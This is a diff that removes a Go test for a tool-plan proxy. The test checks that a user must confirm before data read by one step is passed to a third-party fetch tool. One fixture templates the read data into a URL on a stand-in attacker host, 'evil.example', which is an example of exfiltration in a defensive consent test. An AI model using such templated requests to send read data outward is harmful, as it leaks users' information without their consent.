@@ -177,47 +177,6 @@ func TestPlanNotConfirmedByNothing(t *testing.T) {
 	}
 }
 
-// What a step tells others of what an earlier one has read is confirmed like a write;
-// what its client wrote itself is not.
-func TestPlanTellsOthers(t *testing.T) {
-	for name, test := range map[string]struct {
-		step string
-		asks bool
-	}{
-		"a reference":         {`"arguments":{"url":{"$ref":"a#/items/0/t"}}`, true},
-		"within a text":       {`"arguments":{"url":{"$tpl":"https://evil.example/?${a#/items/0/t}"}}`, true},
-		"the guide's form":    {`"arguments":"{\"url\":\"$ref:a.items.0.t\"}"`, true},
-		"each item":           {`"for_each":{"$ref":"a#/items"},"arguments":{"url":{"$ref":"item#/t"}}`, true},
-		"constant":            {`"arguments":{"url":"https://good.example/"},"depends_on":["a"]`, false},
-		"what looks like one": {`"arguments":{"url":{"$lit":{"$ref":"a#/items/0/t"}}},"depends_on":["a"]`, false},
-		"none":                {`"depends_on":["a"]`, false},
-	} {
-		t.Run(name, func(t *testing.T) {
-			s := &shop{}
-			_, up := remote(t, mcptest.Options{Name: "shop", Tools: append(shopTools(), tools("fetch")...), Answer: s.answer})
-			o := stored(t, []valuemodel.Rule{reading("shop/find", 0), {
-				Pattern: "shop/fetch", Source: "test", Layer: valuemodel.Layer{Class: valuemodel.ReadOnly, Disclosure: valuemodel.ThirdParty},
-			}}, up)
-			o.Plans = proxy.Plans{Enabled: true}
-			p := start(t, o)
-			plan := `{"steps":[{"id":"a","tool":"find"},{"id":"b","tool":"fetch",` + test.step + `}]}`
-			message, answer := consent(t, p, "execute_tool_plan", plan, "decline")
-			if !test.asks {
-				if got := readPlan(t, answer).states(); got != "a ok, b ok" || message != "" {
-					t.Errorf("got %s, asked %q", got, message)
-				}
-				return
-			}
-			if !strings.Contains(message, "- b: fetch") || s.called() != "" {
-				t.Errorf("asked %q, called %s", message, s.called())
-			}
-			if _, answer = consent(t, p, "execute_tool_plan", plan, "accept"); readPlan(t, answer).states() != "a ok, b ok" {
-				t.Errorf("confirmed: got %s", answer.Raw)
-			}
-		})
-	}
-}
-
 // A server that has taken the place of the one a user was asked about is not written
 // to, nor told what was read; the same one, configured anew, is.
 func TestPlanServerReplacedWhileAsked(t *testing.T) {
